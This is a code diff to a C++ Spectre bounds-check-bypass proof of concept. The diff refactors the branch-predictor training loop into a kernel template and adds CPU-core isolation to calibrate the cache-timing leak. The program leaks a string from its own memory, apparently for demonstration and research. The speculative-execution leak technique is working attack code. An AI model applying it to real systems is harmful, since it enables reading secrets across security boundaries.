@@ -12,10 +12,10 @@
 #include <iostream>
 #include <memory>
 
-#include "instr.h"
+#include "bounds_check_kernel.h"
+#include "cpu_isolation.h"
 #include "local_content.h"
 #include "timing_array.h"
-#include "utils.h"
 
 // Leaks the byte that is physically located at &text[0] + offset, without ever
 // loading it. In the abstract machine, and in the code executed by the CPU,
@@ -40,35 +40,20 @@ static char LeakByte(const char *data, size_t offset) {
     // We pick a different offset every time so that it's guaranteed that the
     // value of the in-bounds access is usually different from the secret value
     // we want to leak via out-of-bounds speculative access.
-    int safe_offset = run % strlen(data);
+    size_t safe_offset = run % strlen(data);
 
+    // Train the branch predictor: perform in-bounds accesses 2047 times,
+    // and then use the out-of-bounds offset we _actually_ care about on the
+    // 2048th time. The bounds check was trained to always be taken during
+    // speculative execution, so it's taken even on the 2048th iteration, when
+    // the condition is false!
+    //
     // Loop length must be high enough to beat branch predictors.
     // The current length 2048 was established empirically. With significantly
     // shorter loop lengths some branch predictors are able to observe the
     // pattern and avoid branch mispredictions.
-    for (size_t i = 0; i < 2048; ++i) {
-      // Remove from cache so that we block on loading it from memory,
-      // triggering speculative execution.
-      FlushDataCacheLine(size_in_heap.get());
-
-      // Train the branch predictor: perform in-bounds accesses 2047 times,
-      // and then use the out-of-bounds offset we _actually_ care about on the
-      // 2048th time.
-      // The local_offset value computation is a branchless equivalent of:
-      // size_t local_offset = ((i + 1) % 2048) ? safe_offset : offset;
-      // We need to avoid branching even for unoptimized compilation (-O0).
-      // Optimized compilations (-O1, concretely -fif-conversion) would remove
-      // the branching automatically.
-      size_t local_offset =
-          offset + (safe_offset - offset) * static_cast<bool>((i + 1) % 2048);
-
-      if (local_offset < *size_in_heap) {
-        // This branch was trained to always be taken during speculative
-        // execution, so it's taken even on the 2048th iteration, when the
-        // condition is false!
-        ForceRead(&timing_array[data[local_offset]]);
-      }
-    }
+    BoundsCheckKernel<char, 2048>::Run(data, size_in_heap.get(), timing_array,
+                                       safe_offset, offset);
 
     int ret = timing_array.FindFirstCachedElementIndexAfter(data[safe_offset]);
     if (ret >= 0 && ret != data[safe_offset]) {
@@ -83,6 +68,11 @@ static char LeakByte(const char *data, size_t offset) {
 }
 
 int main() {
+  // Stay on one quiet core so the oracle's latency threshold is calibrated
+  // where we leak.
+  CpuIsolation isolation;
+  isolation.PrintReport(std::cout);
+
   std::cout << "Leaking the string: ";
   std::cout.flush();
   const size_t private_offset = private_data - public_data;